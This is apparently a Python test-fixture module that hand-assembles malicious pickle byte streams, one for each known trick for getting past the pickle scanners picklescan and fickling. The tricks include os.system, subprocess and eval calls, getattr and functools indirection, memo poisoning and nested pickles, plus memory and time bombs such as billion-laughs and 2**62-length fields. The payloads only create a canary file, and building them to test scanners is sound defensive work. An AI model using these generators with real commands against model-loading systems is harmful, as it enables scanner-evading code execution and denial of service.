"""Pickle programs that do harm where something runs them, one for each trick in the books.

Each would make the file ``canary`` (or, for bombs, take all memory or time). They are written
opcode by opcode: what a scanner of pickles has been passed by is seldom what ``pickle.dumps``
writes.

References
----------
The tricks are those described for the scanners picklescan and fickling: dangerous globals, calls
by every opcode that calls, indirection by getattr, functools and operator, dotted names, the memo,
extension codes, nested pickles, damaged ends.
"""

from __future__ import annotations

import pickle
import struct
from pathlib import Path

PROTOCOL = b"\x80\x04"
#: Calls of one function with plain arguments: module, name, arguments with CANARY, CODE and SHELL.
CANARY, CODE, SHELL = "<canary>", "<code>", "<shell>"
CALLS: dict[str, tuple[str, str, tuple[object, ...]]] = {
    "os.system": ("os", "system", (SHELL,)),
    "posix.system": ("posix", "system", (SHELL,)),
    "os.popen": ("os", "popen", (SHELL,)),
    "os.mkdir": ("os", "mkdir", (CANARY,)),
    "subprocess.check_call": ("subprocess", "check_call", (["touch", CANARY],)),
    "subprocess.getoutput": ("subprocess", "getoutput", (SHELL,)),
    "builtins.eval": ("builtins", "eval", (CODE,)),
    "builtins.exec": ("builtins", "exec", (CODE,)),
    "builtins.open": ("builtins", "open", (CANARY, "w")),
    "runpy._run_code": ("runpy", "_run_code", (CODE, {})),
    "timeit.main": ("timeit", "main", (["-n", "1", "-r", "1", CODE],)),
    "pty.spawn": ("pty", "spawn", (["touch", CANARY],)),
    "cProfile.run": ("cProfile", "run", (CODE,)),
    "profile.run": ("profile", "run", (CODE,)),
    "numpy f2py": ("numpy.f2py.crackfortran", "myeval", (CODE,)),
    "torch.utils.collect_env.run": ("torch.utils.collect_env", "run", (SHELL,)),
    "dotted name: shutil.os.mkdir": ("shutil", "os.mkdir", (CANARY,)),
    "dotted name: torch.serialization.os.system": ("torch.serialization", "os.system", (SHELL,)),
    "dotted name: shutil.os.system": ("shutil", "os.system", (SHELL,)),
}


def code(canary: Path) -> str:
    """Return an expression that makes the file."""
    return f"__import__('pathlib').Path({str(canary)!r}).touch()"


def shell(canary: Path) -> str:
    """Return a command that makes the file."""
    return f"touch {canary}"


def text(value: str) -> bytes:
    """Push a text."""
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def stack_global(module: str, name: str) -> bytes:
    """Push a global by two texts on the stack, which allows dots in its name."""
    return text(module) + text(name) + b"\x93"


def plain_global(module: str, name: str) -> bytes:
    """Push a global by the opcode of old."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(function: bytes, *arguments: bytes) -> bytes:
    """Push what a call returns."""
    return function + b"(" + b"".join(arguments) + b"tR"


def value(thing: object) -> bytes:
    """Push a plain value."""
    return pickle.dumps(thing, protocol=2)[2:-1].replace(b"q\x00", b"")


def program(*parts: bytes) -> bytes:
    """Return a whole pickle of protocol 4."""
    return PROTOCOL + b"".join(parts) + b"."


def attacks(canary: Path) -> dict[str, bytes]:
    """Return programs that make the file where pickle runs them, by their trick."""
    return {**_simple_calls(canary), **_by_opcode(canary), **_indirect(canary)}


def _simple_calls(canary: Path) -> dict[str, bytes]:
    """Return the calls of `CALLS`."""
    known = {CANARY: str(canary), CODE: code(canary), SHELL: shell(canary)}

    def fill(argument: object) -> object:
        if isinstance(argument, list):
            return [fill(part) for part in argument]
        return known.get(argument, argument) if isinstance(argument, str) else argument

    return {
        trick: program(call(stack_global(module, name), *(pushed(fill(a)) for a in arguments)))
        for trick, (module, name, arguments) in CALLS.items()
    }


def pushed(thing: object) -> bytes:
    """Push texts, numbers, None, lists and dicts of them."""
    if isinstance(thing, str):
        return text(thing)
    if isinstance(thing, list):
        return b"](" + b"".join(map(pushed, thing)) + b"e"
    return value(thing)


def _by_opcode(canary: Path) -> dict[str, bytes]:
    """Return calls by every other opcode that calls, looks up or hides something."""
    path, command = text(str(canary)), text(shell(canary))
    system = plain_global("os", "system")
    line = str(canary).encode() + b"\n"
    poisoned = system + b"q\x05" + b"0"  # into the memo, off the stack
    return {
        "protocol 0": b"cos\nmkdir\n(V" + line + b"tR.",
        "INST": b"(V" + line + b"ios\nmkdir\n.",
        "OBJ": b"(" + plain_global("os", "mkdir") + path + b"o.",
        "NEWOBJ": program(
            stack_global("numpy", "memmap"), b"(", path, text("u1"), text("w+"), b"K\x00K\x01t\x81"
        ),
        "NEWOBJ_EX": program(
            stack_global("numpy", "memmap"), path, b"\x85}", text("mode"), text("w+"), b"s",
            text("shape"), b"K\x01s\x92",
        ),
        "Python 2's builtins": b"\x80\x02" + plain_global("__builtin__", "eval") + b"("
        + text(code(canary)) + b"tR.",
        "poisoned memo": program(poisoned, text("harmless"), b"0h\x05(", command, b"tR"),
        "overwritten memo": program(
            stack_global("collections", "OrderedDict"), b"\x940", system, b"q\x000h\x00(", command,
            b"tR",
        ),
        "DUP and POP_MARK": program(b"(", text("x"), b"1", system, b"2(", command, b"tR0"),
        "in a dict key": program(b"}", call(system, command), text("v"), b"s"),
        "in a set": program(b"\x8f(", call(system, command), b"\x90"),
        "after much that is harmless": program(value(dict.fromkeys(map(str, range(500)), 1)),
                                               b"0", call(system, command)),
        "damage after the call": PROTOCOL + call(system, command) + b"\xff\xff\xff",
        "no STOP": PROTOCOL + call(system, command),
        "BUILD with __setstate__": program(
            call(stack_global("types", "SimpleNamespace")),
            b"}", text("__setstate__"), system, b"sb", command, b"b",
        ),
        "copyreg extension": program(
            call(stack_global("copyreg", "add_extension"), text("os"), text("system"), b"K\xf0"),
            b"0\x82\xf0(", command, b"tR",
        ),
    }  # fmt: skip


def _indirect(canary: Path) -> dict[str, bytes]:
    """Return calls by way of functions that hand out or bind others."""
    command, source = text(shell(canary)), text(code(canary))
    modules = call(stack_global("builtins", "__import__"), text("os"))
    system = stack_global("os", "system")
    get = stack_global("builtins", "getattr")
    loads = stack_global("pickle", "loads")
    inner = program(call(system, command))
    compiled = call(stack_global("builtins", "compile"), source, text("x"), text("exec"))
    return {
        "__import__ and getattr": program(call(call(get, modules, text("system")), command)),
        "getattr of a module's module": program(
            call(call(get, stack_global("shutil", "os"), text("system")), command)
        ),
        "importlib and getattr": program(
            call(call(get, call(stack_global("importlib", "import_module"), text("os")),
                      text("system")), command)
        ),
        "compile and exec": program(call(stack_global("builtins", "exec"), compiled)),
        "functools.partial": program(
            call(call(stack_global("functools", "partial"), system, command))
        ),
        "functools.reduce": program(
            call(stack_global("functools", "reduce"), get, b"](", modules, text("system"), b"e"),
            b"(", command, b"tR",
        ),
        "operator.attrgetter": program(
            call(call(call(stack_global("operator", "attrgetter"), text("system")), modules),
                 command)
        ),
        "operator.methodcaller": program(
            call(call(stack_global("operator", "methodcaller"), text("system"), command), modules)
        ),
        "operator.call by map": program(
            call(stack_global("builtins", "list"),
                 call(stack_global("builtins", "map"), system, b"](", command, b"e"))
        ),
        "pickle.loads in a pickle": program(call(loads, value(inner))),
        "_pickle.loads in a pickle": program(
            call(stack_global("_pickle", "loads"), value(inner))
        ),
        "numpy.load": program(
            call(stack_global("numpy", "load"),
                 call(stack_global("io", "BytesIO"), value(inner)), b"N\x88")
        ),
        "numpy object array": program(
            call(stack_global("numpy._core.multiarray", "_reconstruct"),
                 stack_global("numpy", "ndarray"), b"K\x00\x85", value(b"b")),
            b"(K\x01K\x01\x85", call(stack_global("numpy", "dtype"), text("O8")), b"\x89](",
            call(system, command), b"etb",
        ),
    }  # fmt: skip


def inert_lies() -> dict[str, bytes]:
    """Return programs that call nothing, but no reader should swallow."""
    ordered = stack_global("collections", "OrderedDict")
    far = b"\xff" * 7 + b"\x3f"
    return {
        "persistent id": b"Pos.system\n.",
        "binary persistent id": program(text("os.system"), b"Q"),
        "EXT1": b"\x82\x01.",
        "EXT2": b"\x83\x01\x02.",
        "EXT4": b"\x84\x01\x02\x03\x7f.",
        "GET of nothing": program(b"h\x07"),
        "LONG_BINPUT of 4 billion": b"\x80\x02Nr\xff\xff\xff\xff.",
        "FRAME of 2**62": b"\x80\x04\x95" + far + b"N.",
        "BINUNICODE8 of 2**62": b"\x80\x04\x8d" + far + b"x.",
        "BINBYTES8 of 2**62": b"\x80\x04\x8e" + far + b"x.",
        "BYTEARRAY8 of 2**62": b"\x80\x05\x96" + far + b"x.",
        "BINSTRING of -1": b"\x80\x02T\xff\xff\xff\xffx.",
        "LONG4 of -1": b"\x80\x02\x8b\xff\xff\xff\xff.",
        "NEXT_BUFFER": b"\x80\x05\x97.",
        "integer of 100,000 digits": b"I" + b"9" * 100_000 + b"\n.",
        "protocol 200": b"\x80\xc8N.",
        "empty stack": b"\x80\x02R.",
        "unknown opcode": b"\x80\x02\xfe.",
        "deep nesting": b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b".",
        "deep tuples": b"\x80\x02N" + b"\x85" * 300_000 + b".",
        "billion laughs": program(b"]", *(b"(" + b"2" * 9 + b"l" for _ in range(60))),
        "billion laughs by the memo": program(b"N\x94", *_doubled(60)),
        "bytearray of 20 GB": program(
            call(stack_global("builtins", "bytearray"), value(20 * 10**9))
        ),
        "dict as a call": program(call(ordered, ordered)),
        "class as a class": program(stack_global("collections", "OrderedDict.__class__")),
        "globals of a function": program(
            stack_global("torch._utils", "_rebuild_tensor_v2.__globals__")
        ),
        "attributes of a class": program(ordered, b"}", text("items"), b"K\x01sb"),
        "codec by name": program(
            call(stack_global("_codecs", "encode"), text("x"), text("../../evil"))
        ),
        "dtype of objects": program(call(stack_global("numpy", "dtype"), text("O8"))),
        "tensor without a storage": program(
            call(stack_global("torch._utils", "_rebuild_tensor_v2"), b"N", b"K\x00", b"K\x04\x85",
                 b"K\x01\x85", b"\x89", call(ordered))
        ),
        "storage that is no bytes": program(
            call(stack_global("torch.storage", "_load_from_bytes"), text("x"))
        ),
    }  # fmt: skip


def _doubled(levels: int) -> list[bytes]:
    """Make lists, each of which holds the one before twice: 2**levels things in all."""
    return [
        b"](" + b"j" + struct.pack("<I", level) + b"j" + struct.pack("<I", level) + b"e\x94"
        for level in range(levels)
    ]
